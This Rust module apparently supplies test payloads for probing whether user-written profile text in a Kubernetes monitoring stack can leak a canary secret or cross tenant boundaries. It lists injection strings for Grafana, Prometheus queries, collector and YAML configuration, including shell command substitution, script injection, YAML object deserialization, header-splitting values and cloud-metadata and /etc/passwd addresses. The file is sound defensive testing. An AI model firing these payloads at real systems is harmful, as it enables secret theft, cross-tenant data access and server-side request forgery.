//! What somebody could write into a profile to reach more than they have. In: where the secret and the listener are.
//! Out: texts. No cluster.

use std::path::Path;

/// The variable that programs have in their environment, and that no output may hold.
pub const SECRET: &str = "open-sesame-5f3a";

/// Texts for every reader; `FILE` and `ADDRESS` stand for a file with the secret and for a listener.
const TEXTS: [&str; 58] = [
    // The collector's and Jaeger's configuration.
    "${env:CANARY}",
    "${CANARY}",
    "$CANARY",
    "$${env:CANARY}",
    "$$${env:CANARY} ${env:CANARY}",
    "${file:FILE}",
    "${yaml:a: b}",
    "${http://ADDRESS/config}",
    "${env:CANARY:-x}${",
    // The kubelet and shells.
    "$(CANARY)",
    "$$(CANARY)",
    "`cat FILE`; $(cat FILE)",
    "%{env:CANARY} %(CANARY)s",
    // Go templates in rules.
    "{{ query \"vector(1)\" }}",
    "{{ $labels.namespace }}",
    "{{`raw`}} }} {{",
    "{{ $externalURL }}{",
    "{",
    "{{/*",
    "{{- printf \"%s\" .Value -}}",
    // Grafana.
    "$__rate_interval",
    "${datasource} [[datasource]]",
    "${__user.login:raw}",
    "<<name>>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](http://ADDRESS/pixel)",
    "javascript:alert(document.domain)",
    "\",\"uid\":\"other\",\"x\":\"",
    // PromQL.
    "\"} or vector(1) #",
    "\"} == 0 or up{namespace=\"other",
    "a{b=\"\\\"} or up{namespace=\\\"other\\\"} #\"}",
    "a{b=`\"} or vector(1) #`}",
    "a{b=~\".*\",c!=\"\"} # namespace",
    "a{b='\\n\\\\\"}'}",
    "a or up{namespace=\"other\"}",
    "a{namespace=\"other\"}",
    "a{namespace!=\"\"}",
    "{\"a\",\"namespace\"=\"other\"}",
    "a{\"namespace\"=~\".+\"}",
    "{__name__=~\".+\"}",
    "a{__name__=\"b\"}",
    "a[5m:1s] offset -1h",
    "ALERTS",
    // YAML and JSON.
    "a\n  key: evil",
    "a\n---\nkind: Secret",
    "a: b",
    "- a",
    "!!python/object:os.system",
    "&a *a",
    "%YAML 1.1",
    "on",
    "'\"\\",
    "a\u{2028}b\u{85}c\u{feff}",
    "a\u{0}b\u{1b}[31m\r\nX-Header: 1",
    "a\u{202e}b",
    // Other places.
    "other/x",
    "../../other",
    "x.other.svc",
];

/// Addresses, some of which are allowed: the sender is a pod that the author could run as well.
const ADDRESSES: [&str; 9] = [
    "http://ADDRESS",
    "http://user:password@ADDRESS",
    "http://169.254.169.254:80",
    "http://169.254.169.254/latest/meta-data",
    "https://kubernetes.default.svc:443",
    "file:///etc/passwd",
    "http://a:80/\r\nX-Header: 1",
    "http://a:80/${env:CANARY}",
    "/-/quit",
];

/// Names that exist for the whole cluster, and such that are long.
const NAMES: [&str; 6] = [
    "system-cluster-critical",
    "cluster-admin",
    "kube-system",
    "secret/x",
    "x:latest@sha256:a",
    "LD_PRELOAD",
];

/// Every payload.
pub fn all(file: &Path, address: &str) -> Vec<String> {
    let file = file.display().to_string();
    let texts = TEXTS.iter().chain(&ADDRESSES).chain(&NAMES);
    let mut all: Vec<_> = texts.map(|text| text.replace("FILE", &file).replace("ADDRESS", address)).collect();
    all.extend([63, 253, 512].map(|length| "a".repeat(length)));
    all
}
